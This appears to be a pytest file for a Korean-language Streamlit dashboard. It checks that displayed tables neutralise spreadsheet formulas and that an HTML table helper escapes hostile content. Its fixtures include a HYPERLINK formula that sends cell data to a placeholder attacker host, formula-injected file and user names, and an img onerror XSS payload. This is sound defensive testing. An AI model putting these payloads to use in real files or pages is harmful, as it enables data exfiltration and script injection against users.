"""Tables on screen are neutralised as the downloads are, since the toolbar's own CSV writes what they show."""

import ast
from pathlib import Path

import pandas as pd
import pytest

from etl import intake
from tests.support.upload import (
    PROGRAM,
    ROOT,
    app,
    filled_return,
    seed_warehouse,
)
from ui.downloads import safe_frame
from ui.tables import shown
from warehouse.connection import connection

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def test_shown_neutralises_text_like_the_downloads_and_keeps_numbers():
    df = pd.DataFrame(
        {
            "파일": [FORMULA, "+1", "-x", "@sum", "\tx", "ok", None],
            "행 수": [1, 2, 3, 4, 5, 6, 7],
            2024: [0.5] * 7,
        }
    )
    out = shown(df)
    assert out["파일"].tolist()[:6] == safe_frame(df)["파일"].tolist()[:6]
    assert out["파일"].tolist()[:5] == ["'" + v for v in df["파일"].tolist()[:5]]
    assert out["파일"].iloc[5] == "ok" and pd.isna(out["파일"].iloc[6])
    assert out["행 수"].tolist() == df["행 수"].tolist() and pd.api.types.is_integer_dtype(out["행 수"])
    assert list(out.columns) == ["파일", "행 수", 2024]  # headers that are not text stay as they are
    assert shown(pd.DataFrame({"=cmd": [1]})).columns[0] == "'=cmd"


def test_no_page_calls_st_dataframe_around_ui_tables():
    """Every table goes through ui.tables.show, every editor through ui.tables.edit (a new
    st.dataframe or st.data_editor elsewhere would bypass them)."""
    offenders = []
    for path in [*ROOT.glob("views/*.py"), *ROOT.glob("ui/*.py"), ROOT / "dashboard.py"]:
        if path.name == "tables.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and node.attr in ("dataframe", "data_editor"):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "warehouse.duckdb"
    seed_warehouse(path, tmp_path)
    fixed = tmp_path / "fixed.xlsx"
    filled_return(
        fixed, [["주베트남 대사관", "K-뷰티", PROGRAM, 11, 20, 2, 100.0]], year=2026, quarter=1, agency="mofa"
    )
    with connection(path) as con:
        intake.load(con, fixed, intake.Actor("@SUM(1+1)"), name=f"{FORMULA}.xlsx")
    monkeypatch.setenv("DASHBOARD_DB", str(path))
    monkeypatch.setenv("DASHBOARD_ROLE", "admin")
    monkeypatch.setenv("DASHBOARD_USER", "admin@mss.test")
    return path


def test_history_table_shows_a_formula_file_name_neutralised(db):
    at = app("views/history.py")
    assert not at.exception
    table = at.dataframe[0].value
    assert table["파일"].iloc[0] == f"'{FORMULA}.xlsx"
    assert table["적재자"].iloc[0] == "'@SUM(1+1)"
    assert table["행 수"].tolist() == [4, 4]  # numbers stay numbers


def test_text_table_escapes_every_header_and_cell_and_sizes_columns():
    from ui.text_table import table_html

    hostile = pd.DataFrame(
        {
            "<th>시트": ["<img src=x onerror=alert(1)>", None],
            "문제": ["![](http://x/p.png) **굵게** & :red[x]", "줄\n바꿈"],
        }
    )
    out = table_html(hostile, widths=(1, 3))
    assert "<img" not in out and "<th>시트" not in out
    assert "&lt;img src=x onerror=alert(1)&gt;" in out and "&lt;th&gt;시트" in out
    assert "![](http://x/p.png) **굵게** &amp; :red[x]" in out  # Markdown means nothing in HTML
    assert "width:25.00%" in out and "width:75.00%" in out
    assert out.count("<tr>") == 3 and "<td" in out and "줄\n바꿈" in out  # pre-wrap keeps the break
    with pytest.raises(ValueError):
        table_html(hostile, widths=(1,))
